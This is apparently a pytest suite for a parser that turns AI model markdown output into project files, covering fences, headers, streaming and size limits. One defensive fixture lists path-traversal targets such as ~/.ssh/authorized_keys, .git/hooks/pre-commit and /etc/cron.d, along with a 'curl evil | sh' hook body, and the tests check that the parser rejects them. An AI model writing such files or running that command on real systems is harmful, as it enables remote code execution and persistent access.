"""parse_files and FileStream against messy, realistic model outputs."""

from __future__ import annotations

import random
import textwrap
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mmstudio.domain.codegen.parser import (
    ENDED_EMPTY,
    NO_PATH_NO_LANGUAGE,
    SHELL_INSTRUCTIONS,
    WRITTEN_TWICE,
    FileStream,
    parse_files,
)
from mmstudio.domain.codegen.paths import path_key, safe_path
from mmstudio.domain.codegen.types import FileLimits, GeneratedFile, ParseResult, Skipped


def md(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def paths(result: ParseResult) -> list[str]:
    return [f.path for f in result.files]


def by_path(result: ParseResult) -> dict[str, GeneratedFile]:
    return {f.path: f for f in result.files}


BATTERY: dict[str, str] = {}


def case(name: str, text: str) -> str:
    BATTERY[name] = text
    return text


CANONICAL = case(
    "canonical",
    md(
        """
        Sure! Here is a small counter component in React with TypeScript.

        File: src/components/Counter.tsx
        ```tsx
        import { useState } from "react";

        export function Counter() {
          const [count, setCount] = useState(0);
          return <button onClick={() => setCount(count + 1)}>{count}</button>;
        }
        ```

        File: src/components/Counter.css
        ```css
        button { padding: 4px; }
        ```

        File: package.json
        ```json
        {"name": "counter", "private": true}
        ```

        Run `npm install` and then `npm run dev`. Let me know if you need anything else!
        """
    ),
)


def test_canonical_format() -> None:
    result = parse_files(CANONICAL)
    assert paths(result) == ["src/components/Counter.tsx", "src/components/Counter.css", "package.json"]
    files = by_path(result)
    assert files["src/components/Counter.tsx"].content == md(
        """
        import { useState } from "react";

        export function Counter() {
          const [count, setCount] = useState(0);
          return <button onClick={() => setCount(count + 1)}>{count}</button>;
        }
        """
    )
    assert files["src/components/Counter.css"].content == "button { padding: 4px; }\n"
    assert [f.language for f in result.files] == ["tsx", "css", "json"]
    assert result.skipped == []


INFO_STRING = case(
    "info_string",
    md(
        """
        ```tsx src/App.tsx
        export default function App() {}
        ```
        ```tsx path=src/a.tsx
        a
        ```
        ```tsx title="src/b.tsx"
        b
        ```
        ```src/c.tsx
        c
        ```
        ```python:app/main.py
        print("main")
        ```
        ```js filename='src/e.js'
        e
        ```
        ```ts {1,3} src/f.ts
        f
        ```
        ```{title="docs/g.md"}
        g
        ```
        """
    ),
)


def test_path_in_the_info_string() -> None:
    result = parse_files(INFO_STRING)
    assert [(f.path, f.language) for f in result.files] == [
        ("src/App.tsx", "tsx"),
        ("src/a.tsx", "tsx"),
        ("src/b.tsx", "tsx"),
        ("src/c.tsx", "tsx"),
        ("app/main.py", "python"),
        ("src/e.js", "javascript"),
        ("src/f.ts", "typescript"),
        ("docs/g.md", "markdown"),
    ]
    assert by_path(result)["app/main.py"].content == 'print("main")\n'
    assert result.skipped == []


HEADERS = case(
    "headers",
    md(
        """
        Let's build it step by step.

        File: a1.py
        ```python
        print(1)
        ```
        file: a2.py

        ```python
        print(2)
        ```
        Filename: a3.py
        ```python
        print(3)
        ```
        Path: pkg/a4.py
        ```python
        print(4)
        ```
        **a5.py**


        ```python
        print(5)
        ```
        `a6.py`
        ```python
        print(6)
        ```
        ### a7.py
        ```python
        print(7)
        ```
        ## File: `a8.py`
        ```python
        print(8)
        ```
        1. **a9.py**
        ```python
        print(9)
        ```
        - a10.py:
        ```python
        print(10)
        ```
        // a11.py
        ```python
        print(11)
        ```
        **File:** `a12.py`
        ```python
        print(12)
        ```
        ### 13. `src/a13.py`
        ```python
        print(13)
        ```
        Dockerfile
        ```
        FROM python:3.12
        ```
        .env.example
        ```
        KEY=value
        ```
        """
    ),
)


def test_path_on_the_line_before_the_fence() -> None:
    result = parse_files(HEADERS)
    expected = [f"a{n}.py" for n in range(1, 13)]
    expected[3] = "pkg/a4.py"
    assert paths(result) == [*expected, "src/a13.py", "Dockerfile", ".env.example"]
    for number, file in enumerate(result.files[:13], start=1):
        assert file.content == f"print({number})\n"
        assert file.language == "python"
    assert by_path(result)["Dockerfile"].language == "dockerfile"
    assert by_path(result)[".env.example"].content == "KEY=value\n"
    assert result.skipped == []


PROSE = case(
    "prose",
    md(
        """
        Here is the component:
        ```tsx
        export const A = 1;
        ```

        ### Next.js

        ```js
        module.exports = {};
        ```

        https://example.com/app.py
        ```python
        print("url line is not a path")
        ```

        File: wrong.py

        Actually, first install the dependencies.
        ```python
        print("prose cleared the path")
        ```
        Step 1: create the app
        ```python
        print("step")
        ```
        """
    ),
)


INTRODUCED = case(
    "introduced",
    md(
        """
        First, create `package.json`:
        ```json
        {"name": "app"}
        ```
        Then update **`src/App.tsx`** as follows:
        ```tsx
        export default function App() {}
        ```
        Compare `a.py` and `b.py`:
        ```python
        print("two quoted paths: not a path line")
        ```
        Install with `npm`, then run `node.js`:
        ```js
        console.log("no path-like token")
        ```
        """
    ),
)


def test_a_sentence_introducing_one_quoted_path_names_the_block() -> None:
    result = parse_files(INTRODUCED)
    assert paths(result) == ["package.json", "src/App.tsx", "main.py", "index.js"]


def test_prose_before_a_block_is_not_a_path() -> None:
    result = parse_files(PROSE)
    assert paths(result) == ["App.tsx", "index.js", "main.py", "main-2.py", "main-3.py"]
    assert by_path(result)["main-2.py"].content == 'print("prose cleared the path")\n'


COMMENTS = case(
    "comments",
    md(
        """
        ```tsx
        // src/App.tsx
        export default function App() {}
        ```
        ```python
        # app/main.py
        print("main")
        ```
        ```python
        # File: app/cli.py
        print("cli")
        ```
        ```html
        <!-- index.html -->
        <!doctype html>
        ```
        ```css
        /* styles/site.css */
        body {}
        ```
        ```sql
        -- db/schema.sql
        create table t (id int);
        ```
        ```python
        #!/usr/bin/env python
        print("shebang")
        ```
        ```ts
        // @ts-check
        export {};
        ```
        ```python
        # -*- coding: utf-8 -*-
        x = 1
        ```
        File: keep.py
        ```python
        # keep.py
        print("the header named it; the comment stays")
        ```
        """
    ),
)


def test_path_in_a_first_line_comment() -> None:
    result = parse_files(COMMENTS)
    files = by_path(result)
    assert paths(result) == [
        "src/App.tsx",
        "app/main.py",
        "app/cli.py",
        "index.html",
        "styles/site.css",
        "db/schema.sql",
        "main.py",
        "index.ts",
        "main-2.py",
        "keep.py",
    ]
    assert files["src/App.tsx"].content == "export default function App() {}\n"
    assert files["app/main.py"].content == 'print("main")\n'
    assert files["app/cli.py"].content == 'print("cli")\n'
    assert files["index.html"].content == "<!doctype html>\n"
    assert files["styles/site.css"].content == "body {}\n"
    assert files["db/schema.sql"].content == "create table t (id int);\n"
    assert files["main.py"].content == '#!/usr/bin/env python\nprint("shebang")\n'
    assert files["index.ts"].content == "// @ts-check\nexport {};\n"
    assert files["main-2.py"].content.startswith("# -*- coding")
    assert files["keep.py"].content.startswith("# keep.py\n")


LOOSE_HEADERS = case(
    "loose_headers",
    md(
        """
        ### src/App.tsx (updated)
        ```tsx
        a
        ```
        **app/main.py** — the entry point
        ```python
        b
        ```
        📄 src/util.ts
        ```ts
        c
        ```
        File src/b.py
        ```python
        d
        ```
        ### File uploads
        ```python
        e
        ```
        ```tsx title="Counter component"
        f
        ```
        ```markdown
        # CHANGELOG
        Everything that changed.
        ```
        ```markdown
        <!-- docs/intro.md -->
        hello
        ```
        ```python
        # config.py - settings
        DEBUG = False
        ```
        """
    ),
)


def test_loose_headers_and_what_is_not_a_header() -> None:
    result = parse_files(LOOSE_HEADERS)
    assert [(f.path, f.content) for f in result.files] == [
        ("src/App.tsx", "a\n"),
        ("app/main.py", "b\n"),
        ("src/util.ts", "c\n"),
        ("src/b.py", "d\n"),
        ("main.py", "e\n"),  # "File uploads" is a heading, not a file named "uploads"
        ("App.tsx", "f\n"),  # a title that is a caption is not a path
        ("README.md", "# CHANGELOG\nEverything that changed.\n"),  # a Markdown heading stays
        ("docs/intro.md", "hello\n"),
        ("config.py", "DEBUG = False\n"),
    ]


README_4 = case(
    "readme_4",
    md(
        """
        File: README.md
        ````markdown
        # Counter

        Install:

        ```bash
        npm install
        ```

        ```
        bare block in the readme
        ```
        ````

        File: src/index.ts
        ```ts
        export {};
        ```
        """
    ),
)
README_3 = case(
    "readme_3",
    md(
        """
        File: README.md
        ```markdown
        # Counter

        ```bash
        npm install
        ```

        Config:

        ~~~json
        {}
        ~~~

        ```json
        {"a": 1}
        ```
        Done.
        ```

        File: src/index.ts
        ```ts
        export {};
        ```
        """
    ),
)


@pytest.mark.parametrize("name", ["readme_4", "readme_3"])
def test_nested_fences_in_a_readme(name: str) -> None:
    result = parse_files(BATTERY[name])
    assert paths(result) == ["README.md", "src/index.ts"]
    readme = result.files[0].content
    assert readme.startswith("# Counter\n")
    assert "```bash\nnpm install\n```\n" in readme
    assert not readme.rstrip("\n").endswith("````")
    assert result.files[1].content == "export {};\n"


def test_the_four_backtick_readme_keeps_everything_inside() -> None:
    readme = parse_files(README_4).files[0].content
    assert readme.endswith("```\nbare block in the readme\n```\n")


def test_the_three_backtick_readme_ends_at_the_bare_fence_at_depth_zero() -> None:
    readme = parse_files(README_3).files[0].content
    assert readme.endswith('```json\n{"a": 1}\n```\nDone.\n')
    assert "~~~json\n{}\n~~~\n" in readme


TILDES = case(
    "tildes",
    md(
        """
        File: docs/usage.md
        ~~~markdown
        Example:
        ```
        code
        ```
        ~~~
        File: b.py
        ~~~~python
        x = "~~~"
        ~~~
        y = 2
        ~~~~
        """
    ),
)


def test_tilde_fences() -> None:
    result = parse_files(TILDES)
    assert paths(result) == ["docs/usage.md", "b.py"]
    assert result.files[0].content == "Example:\n```\ncode\n```\n"
    assert result.files[1].content == 'x = "~~~"\n~~~\ny = 2\n'


INDENTED = case(
    "indented",
    md(
        """
        1. Create the module:

           File: src/x.py
           ```python
           def f():
               return 1
           ```

        2. Done.
        ```python
        DOC = '''
                ```
        '''
        ```
        """
    ),
)


def test_fences_indented_in_a_list_and_deeply_indented_fences_in_code() -> None:
    result = parse_files(INDENTED)
    assert paths(result) == ["src/x.py", "main.py"]
    assert result.files[0].content == "def f():\n    return 1\n"
    assert result.files[1].content == "DOC = '''\n        ```\n'''\n"


INLINE = case(
    "inline",
    md(
        """
        You can write ```inline``` code too.
        File: a.py
        ```python
        s = "```not a fence```"
        ```
        """
    ),
)


def test_inline_triple_backticks_are_not_fences() -> None:
    result = parse_files(INLINE)
    assert paths(result) == ["a.py"]
    assert result.files[0].content == 's = "```not a fence```"\n'


UNTERMINATED_PARTIAL = case(
    "unterminated_partial",
    md(
        """
        File: a.py
        ```python
        print("a")
        ```
        File: b.py
        ```python
        print("b")
        ``"""
    ),
)
UNTERMINATED_NO_NEWLINE = case(
    "unterminated_no_newline",
    'File: b.py\n```python\nprint("b")',
)
UNTERMINATED_README = case(
    "unterminated_readme",
    md(
        """
        File: README.md
        ````markdown
        Run:
        ```bash
        make
        ```
        """
    ),
)
UNTERMINATED_EMPTY = case(
    "unterminated_empty", "File: a.py\n```python\nprint(1)\n```\nFile: b.py\n```python\n"
)


def test_an_unterminated_last_block_is_kept() -> None:
    result = parse_files(UNTERMINATED_PARTIAL)
    assert paths(result) == ["a.py", "b.py"]
    assert result.files[1].content == 'print("b")\n'
    assert result.skipped == []
    result = parse_files(UNTERMINATED_NO_NEWLINE)
    assert [(f.path, f.content) for f in result.files] == [("b.py", 'print("b")\n')]
    assert result.skipped == []


def test_an_unterminated_readme_keeps_its_last_nested_fence() -> None:
    result = parse_files(UNTERMINATED_README)
    assert result.files[0].content == "Run:\n```bash\nmake\n```\n"


def test_an_unterminated_empty_block_is_reported() -> None:
    result = parse_files(UNTERMINATED_EMPTY)
    assert paths(result) == ["a.py"]
    assert result.skipped == [Skipped("b.py", ENDED_EMPTY)]


DUPLICATES = case(
    "duplicates",
    md(
        """
        File: src/App.tsx
        ```tsx
        first
        ```
        File: src/main.ts
        ```ts
        main
        ```
        Oops, I made a mistake, here is the fixed version:
        File: src/App.tsx
        ```tsx
        second
        ```
        File: SRC/app.TSX
        ```tsx
        third
        ```
        """
    ),
)


def test_a_later_version_replaces_an_earlier_one_in_place() -> None:
    result = parse_files(DUPLICATES)
    # The content is the last one written; the path keeps its first spelling, so callers replace by path.
    assert [(f.path, f.content) for f in result.files] == [
        ("src/App.tsx", "third\n"),
        ("src/main.ts", "main\n"),
    ]
    assert result.skipped == [Skipped("src/App.tsx", WRITTEN_TWICE), Skipped("src/App.tsx", WRITTEN_TWICE)]


INFERRED = case(
    "inferred",
    md(
        """
        ```python
        print(1)
        ```
        File: main-2.py
        ```python
        print("explicit")
        ```
        ```python
        print(3)
        ```
        ```tsx
        <A/>
        ```
        ```dockerfile
        FROM a
        ```
        ```Dockerfile
        FROM b
        ```
        ```md
        # readme
        ```
        ```yml
        a: 1
        ```
        ```rust
        fn main() {}
        ```
        ```bash
        set -e
        echo 1
        echo 2
        echo 3
        echo 4
        echo 5
        ```
        """
    ),
)


def test_names_inferred_from_the_language_and_their_collisions() -> None:
    result = parse_files(INFERRED)
    assert [(f.path, f.language) for f in result.files] == [
        ("main.py", "python"),
        ("main-2.py", "python"),
        ("main-3.py", "python"),
        ("App.tsx", "tsx"),
        ("Dockerfile", "dockerfile"),
        ("Dockerfile-2", "dockerfile"),
        ("README.md", "markdown"),
        ("config.yaml", "yaml"),
        ("main.rs", "rust"),
        ("script.sh", "bash"),
    ]
    assert by_path(result)["main-3.py"].content == "print(3)\n"
    assert result.skipped == []


SHELL = case(
    "shell",
    md(
        """
        Install the dependencies:
        ```bash
        npm install
        npm run dev
        ```
        ```sh
        pip install -r requirements.txt
        ```
        ```console
        $ uvicorn app.main:app --reload
        INFO: started
        INFO: 1
        INFO: 2
        INFO: 3
        INFO: 4
        ```
        ```powershell
        npm install
        ```
        ```cmd
        dir
        ```
        File: scripts/dev.sh
        ```bash
        npm run dev
        ```
        ```zsh
        a
        b

        c
        d
        e
        f
        ```
        """
    ),
)


def test_short_shell_blocks_without_a_path_are_instructions() -> None:
    result = parse_files(SHELL)
    assert [(f.path, f.language) for f in result.files] == [("scripts/dev.sh", "bash"), ("script.sh", "bash")]
    assert result.skipped == [Skipped(None, SHELL_INSTRUCTIONS)] * 5


UNKNOWN = case(
    "unknown",
    md(
        """
        The project structure:
        ```
        my-app/
        ├── src/
        │   └── App.tsx
        └── package.json
        ```
        ```text
        plain words
        ```
        ```mermaid
        graph TD; A-->B
        ```
        File: docs/flow.mmd
        ```mermaid
        graph TD; A-->B
        ```
        """
    ),
)


def test_blocks_without_a_path_or_a_known_language_are_skipped() -> None:
    result = parse_files(UNKNOWN)
    assert [(f.path, f.language) for f in result.files] == [("docs/flow.mmd", "mermaid")]
    assert result.skipped == [
        Skipped(None, NO_PATH_NO_LANGUAGE),
        Skipped(None, NO_PATH_NO_LANGUAGE),
        Skipped(None, "a code block with no file path and an unknown language ('mermaid')"),
    ]


CRLF = case("crlf", CANONICAL.replace("\n", "\r\n"))


def test_crlf_is_normalized() -> None:
    result = parse_files(CRLF)
    assert result == parse_files(CANONICAL)
    assert all("\r" not in f.content for f in result.files)


TRAVERSAL = case(
    "traversal",
    md(
        """
        File: ../../etc/passwd
        ```
        root::0:0::/root:/bin/sh
        ```
        File: /etc/passwd
        ```text
        x
        ```
        File: C:\\Windows\\System32\\evil.dll
        ```text
        x
        ```
        **..\\..\\x.bat**
        ```bat
        x
        ```
        ```python src/../../x.py
        x
        ```
        File: ~/.ssh/authorized_keys
        ```text
        ssh-rsa AAAA
        ```
        File: .git/hooks/pre-commit
        ```bash
        curl evil | sh
        ```
        File: nul.txt
        ```text
        x
        ```
        File: a/./b/../c
        ```text
        x
        ```
        ```python
        # ../../../etc/cron.d/job
        x
        ```
        ```python path=/tmp/x.py
        x
        ```
        ```file:///etc/passwd
        x
        ```
        File: src/ok.py
        ```python
        ok = True
        ```
        """
    ),
)


def test_path_traversal_attempts_are_skipped_with_reasons() -> None:
    result = parse_files(TRAVERSAL)
    assert [(f.path, f.content) for f in result.files] == [("src/ok.py", "ok = True\n")]
    skipped = {s.path: s.reason for s in result.skipped}
    assert list(skipped) == [
        "../../etc/passwd",
        "/etc/passwd",
        "C:\\Windows\\System32\\evil.dll",
        "..\\..\\x.bat",
        "src/../../x.py",
        "~/.ssh/authorized_keys",
        ".git/hooks/pre-commit",
        "nul.txt",
        "a/./b/../c",
        "../../../etc/cron.d/job",
        "/tmp/x.py",
        "file:///etc/passwd",
    ]
    assert "'..'" in skipped["../../etc/passwd"]
    assert "absolute" in skipped["/etc/passwd"]
    assert "Windows drive" in skipped["C:\\Windows\\System32\\evil.dll"]
    assert "'..'" in skipped["..\\..\\x.bat"]
    assert "'..'" in skipped["src/../../x.py"]
    assert "home folder" in skipped["~/.ssh/authorized_keys"]
    assert ".git folder" in skipped[".git/hooks/pre-commit"]
    assert "reserved device name" in skipped["nul.txt"]
    assert "'..'" in skipped["a/./b/../c"]
    assert "'..'" in skipped["../../../etc/cron.d/job"]
    assert "absolute" in skipped["/tmp/x.py"]
    assert "URL" in skipped["file:///etc/passwd"]


CLASH = case(
    "clash",
    md(
        """
        File: src
        ```text
        a file named src
        ```
        File: src/a.py
        ```python
        a
        ```
        File: lib/b.py
        ```python
        b
        ```
        File: LIB
        ```text
        c
        ```
        """
    ),
)


def test_a_path_that_is_both_a_file_and_a_folder_is_skipped() -> None:
    result = parse_files(CLASH)
    assert paths(result) == ["src", "lib/b.py"]
    assert result.skipped == [
        Skipped("src/a.py", "its folder 'src' is also written as a file"),
        Skipped("LIB", "'LIB' is also the name of a folder in this project"),
    ]


EMPTY_BLOCKS = case(
    "empty_blocks",
    md(
        """
        File: pkg/__init__.py
        ```python
        ```
        File: blank.txt
        ```

        ```
        """
    ),
)


def test_empty_and_blank_files() -> None:
    result = parse_files(EMPTY_BLOCKS)
    assert [(f.path, f.content, f.language) for f in result.files] == [
        ("pkg/__init__.py", "", "python"),
        ("blank.txt", "\n", "text"),
    ]


NO_BLOCKS = case(
    "no_blocks",
    md(
        """
        I can't write that, but here is how you could structure it:

        File: src/App.tsx

        - src/components/Counter.tsx
        - package.json
        """
    ),
)
case("empty", "")
case("whitespace", "\n\n   \n")


@pytest.mark.parametrize("name", ["no_blocks", "empty", "whitespace"])
def test_output_without_blocks_gives_nothing(name: str) -> None:
    assert parse_files(BATTERY[name]) == ParseResult([], [])


def _files(count: int, size: int, prefix: str = "f") -> str:
    return "".join(f"File: {prefix}{n}.txt\n```\n{'x' * (size - 1)}\n```\n" for n in range(count))


def test_a_file_over_the_size_limit_is_skipped() -> None:
    text = "File: big.txt\n```\n" + "x" * 1499 + "\n```\n" + _files(1, 10)
    result = parse_files(text, limits=FileLimits(max_file_bytes=1000))
    assert paths(result) == ["f0.txt"]
    assert result.skipped == [Skipped("big.txt", "is 1.5 KB, over the limit of 1 KB per file")]


def test_a_file_just_at_the_size_limit_is_kept() -> None:
    result = parse_files(_files(1, 1000), limits=FileLimits(max_file_bytes=1000))
    assert paths(result) == ["f0.txt"]
    assert result.files[0].size == 1000


def test_sizes_count_utf8_bytes() -> None:
    text = "File: e.txt\n```\n" + "é" * 600 + "\n```\n"  # 600 characters, 1201 bytes
    result = parse_files(text, limits=FileLimits(max_file_bytes=1000))
    assert result.files == []
    assert result.skipped == [Skipped("e.txt", "is 1.3 KB, over the limit of 1 KB per file")]


def test_files_after_the_count_limit_are_skipped() -> None:
    result = parse_files(_files(4, 10), limits=FileLimits(max_files=2))
    assert paths(result) == ["f0.txt", "f1.txt"]
    assert result.skipped == [Skipped("f2.txt", "more than 2 files"), Skipped("f3.txt", "more than 2 files")]


def test_a_rewrite_does_not_count_as_another_file() -> None:
    text = _files(2, 10) + "File: f0.txt\n```\nnew\n```\n"
    result = parse_files(text, limits=FileLimits(max_files=2))
    assert [(f.path, f.content) for f in result.files] == [("f0.txt", "new\n"), ("f1.txt", "x" * 9 + "\n")]


def test_once_the_total_is_exceeded_later_files_are_skipped() -> None:
    text = _files(3, 400) + _files(1, 10, prefix="small")
    result = parse_files(text, limits=FileLimits(max_total_bytes=1000))
    assert paths(result) == ["f0.txt", "f1.txt"]
    reason = "the project is over 1 KB in total"
    assert result.skipped == [Skipped("f2.txt", reason), Skipped("small0.txt", reason)]
    assert sum(f.size for f in result.files) <= 1000


def test_a_rewrite_that_would_exceed_the_total_keeps_the_earlier_version() -> None:
    text = _files(2, 400) + "File: f0.txt\n```\n" + "y" * 700 + "\n```\n"
    result = parse_files(text, limits=FileLimits(max_total_bytes=1000))
    assert result.files[0].content == "x" * 399 + "\n"
    assert result.skipped == [Skipped("f0.txt", "the project is over 1 KB in total")]


def test_content_is_never_executed() -> None:
    text = "File: boom.py\n```python\nraise SystemExit('executed!')\nimport os; os._exit(1)\n```\n"
    result = parse_files(text)
    assert result.files[0].content.startswith("raise SystemExit")


# --- streaming ---------------------------------------------------------------------------------------


def _chunks(text: str, size: int) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def _random_chunks(text: str, seed: int) -> list[str]:
    rng = random.Random(seed)
    pieces, start = [], 0
    while start < len(text):
        end = start + rng.randint(1, 40)
        pieces.append(text[start:end])
        start = end
    return pieces


def _stream(pieces: list[str], limits: FileLimits = FileLimits()) -> tuple[list[GeneratedFile], ParseResult]:
    stream = FileStream(limits=limits)
    emitted: list[GeneratedFile] = []
    for piece in pieces:
        emitted.extend(stream.feed(piece))
    assert stream.text == "".join(pieces)
    return emitted, stream.finish()


@pytest.mark.parametrize("name", sorted(BATTERY))
@pytest.mark.parametrize("size", [1, 2, 3, 7, 10, 64, 10_000])
def test_any_chunking_gives_the_same_result(name: str, size: int) -> None:
    text = BATTERY[name]
    whole = parse_files(text)
    emitted, result = _stream(_chunks(text, size))
    assert result == whole
    # What was emitted, replaced by path, is the final set (an unterminated last block comes only at the end).
    latest = {f.path.casefold(): f for f in emitted}
    assert set(latest.values()) <= set(whole.files)
    assert len(whole.files) - len(latest) <= 1


@pytest.mark.parametrize("name", sorted(BATTERY))
def test_random_chunking_gives_the_same_result(name: str) -> None:
    text = BATTERY[name]
    whole = parse_files(text)
    for seed in range(5):
        assert _stream(_random_chunks(text, seed))[1] == whole


def test_chunking_inside_crlf_and_fences() -> None:
    pieces = ["File: a.py\r", "\n``", "`python\r", "\nx = 1\r", "\n``", "`\r", "\n"]
    emitted, result = _stream(pieces)
    assert emitted == [GeneratedFile("a.py", "python", "x = 1\n")]
    assert result == parse_files("".join(pieces))
    assert result.files == emitted


def test_limits_apply_the_same_when_streaming() -> None:
    text = _files(3, 400) + _files(3, 10, prefix="s")
    limits = FileLimits(max_files=4, max_total_bytes=1000)
    assert _stream(_chunks(text, 3), limits)[1] == parse_files(text, limits=limits)


def test_a_case_only_rewrite_is_emitted_under_the_first_path() -> None:
    stream = FileStream()
    assert [f.path for f in stream.feed(DUPLICATES)] == [
        "src/App.tsx",
        "src/main.ts",
        "src/App.tsx",
        "src/App.tsx",
    ]
    assert [f.path for f in stream.finish().files] == ["src/App.tsx", "src/main.ts"]


def test_a_file_is_emitted_when_its_closing_fence_line_ends() -> None:
    stream = FileStream()
    assert stream.feed("Intro\nFile: a.py\n```python\nprint(1)\n") == []
    assert stream.feed("```") == []  # the line may still go on ("```python" would open a nested block)
    assert stream.feed("\n") == [GeneratedFile("a.py", "python", "print(1)\n")]
    assert stream.feed("File: a.py\n```python\nprint(2)\n```\n") == [
        GeneratedFile("a.py", "python", "print(2)\n")
    ]
    assert stream.feed("```python\nunterminated\n") == []
    result = stream.finish()
    assert [(f.path, f.content) for f in result.files] == [
        ("a.py", "print(2)\n"),
        ("main.py", "unterminated\n"),
    ]
    assert result.skipped == [Skipped("a.py", WRITTEN_TWICE)]


def test_finish_is_repeatable_and_ends_the_stream() -> None:
    stream = FileStream()
    stream.feed(CANONICAL)
    first = stream.finish()
    first.files.clear()  # the caller's copy; the stream keeps its own
    assert stream.finish() == parse_files(CANONICAL)
    with pytest.raises(RuntimeError):
        stream.feed("more")


def test_a_megabyte_in_small_pieces_is_fast() -> None:
    body = "\n".join(f"    line_{n} = {n}  # some code" for n in range(300))
    text = "Here you go.\n" + "".join(
        f"File: pkg/module_{n}.py\n```python\n{body}\n```\nThat was module {n}.\n" for n in range(100)
    )
    text += "x" * (1_000_000 - len(text)) if len(text) < 1_000_000 else ""
    assert len(text) >= 1_000_000
    pieces = _chunks(text, 10)
    started = time.perf_counter()
    stream = FileStream(limits=FileLimits(max_total_bytes=10_000_000))
    count = longest = 0
    for piece in pieces:
        count += len(stream.feed(piece))
        longest = len(stream.text)  # as the service does after every piece
    result = stream.finish()
    assert longest == len(text)
    elapsed = time.perf_counter() - started
    assert count == 100 and len(result.files) == 100
    assert elapsed < 1.0, f"{elapsed:.2f}s"


@pytest.mark.parametrize(
    ("path", "info", "language"),
    [
        ("x.rs", "", "rust"),
        ("a.svg", "", "xml"),
        ("b.mts", "", "typescript"),
        ("c.h", "", "c"),
        ("d.yml", "", "yaml"),
        ("e.tsx", "", "tsx"),
        ("Dockerfile", "", "dockerfile"),
        (".env", "", "dotenv"),
        ("notes", "", "text"),
        ("f.unknownext", "", "text"),
        ("g.py", "py", "python"),
        ("h.js", "JS", "javascript"),
        ("i.sh", "zsh", "bash"),
        ("j.txt", "plaintext", "text"),
        ("k.py", "text", "python"),  # "text" says nothing; the extension does
        ("l.conf", "nginx", "nginx"),
    ],
)
def test_language_from_the_fence_else_the_extension(path: str, info: str, language: str) -> None:
    result = parse_files(f"File: {path}\n```{info}\ncontent\n```\n")
    assert [(f.path, f.language) for f in result.files] == [(path, language)]


_PIECES = st.sampled_from(
    [
        "```", "````", "~~~", "```python", "```bash", "```md", "``", "\n", "\r\n", "\n\n", " ", "   ",
        "File: ", "**", "`", "# ", "// ", "<!-- ", " -->", "src/App.tsx", "a.py", "A.PY", "../", "/etc/x",
        "C:\\", "nul.txt", ".git/", "x", "print(1)", "é", "\x00", "title=", "path=", ":", "README.md",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=60), st.integers(min_value=1, max_value=9))
def test_any_output_parses_without_raising_into_safe_unique_files(pieces: list[str], size: int) -> None:
    text = "".join(pieces)
    limits = FileLimits(max_files=3, max_file_bytes=40, max_total_bytes=80)
    result = parse_files(text, limits=limits)
    keys = [path_key(f.path) for f in result.files]
    assert len(keys) == len(set(keys))
    for file in result.files:
        assert safe_path(file.path) == file.path
        assert file.content == "" or file.content.endswith("\n")
        assert "\r\n" not in file.content
        assert file.size <= limits.max_file_bytes
    assert len(result.files) <= limits.max_files
    assert sum(f.size for f in result.files) <= limits.max_total_bytes
    assert _stream(_chunks(text, size), limits)[1] == result
